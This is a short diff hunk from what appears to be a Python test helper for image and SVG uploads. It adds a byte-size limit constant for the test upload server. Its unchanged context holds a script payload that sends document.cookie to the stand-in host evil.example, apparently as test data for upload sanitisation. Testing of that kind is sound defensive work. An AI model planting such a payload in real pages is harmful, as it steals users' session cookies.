@@ -8,6 +8,9 @@ import zlib
 
 from PIL import Image
 
+LIMIT_BYTES = 300_000
+"""Most that the tests' server of uploads takes of one file."""
+
 SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
 
 SVG = (
